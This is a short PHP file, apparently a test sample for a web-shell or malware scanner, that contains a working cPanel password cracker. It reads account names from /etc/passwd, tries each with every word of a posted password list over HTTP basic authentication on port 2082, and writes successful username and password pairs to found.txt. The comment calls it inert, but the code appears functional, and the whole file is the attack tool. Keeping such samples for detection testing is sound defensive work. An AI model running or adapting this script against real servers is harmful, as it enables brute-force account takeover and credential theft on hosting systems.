<?php
// webhunt test sample (inert): a cPanel cracker. The account names of the system list are tried
// with every password of a posted list over HTTP basic authentication; the pairs that log in are
// appended to a file.
set_time_limit(0);
function try_pair($host, $port, $user, $pass, $out) {
    $ch = curl_init("http://$host:$port/");
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($ch, CURLOPT_HTTPAUTH, CURLAUTH_BASIC);
    curl_setopt($ch, CURLOPT_USERPWD, "$user:$pass");
    curl_setopt($ch, CURLOPT_FAILONERROR, 1);
    curl_exec($ch);
    if (curl_errno($ch) == 0) {
        file_put_contents($out, "$user $pass\n", FILE_APPEND);
        echo "<b>$user</b> : $pass<br>";
    }
    curl_close($ch);
}
$users = array();
foreach (file('/etc/passwd') as $row) {
    $cols = explode(':', $row);
    $users[] = trim($cols[0]);
}
if (isset($_POST['go'])) {
    $words = explode("\n", $_POST['words']);
    foreach ($users as $u) {
        foreach ($words as $w) {
            try_pair($_POST['host'], 2082, $u, trim($w), 'found.txt');
        }
    }
}
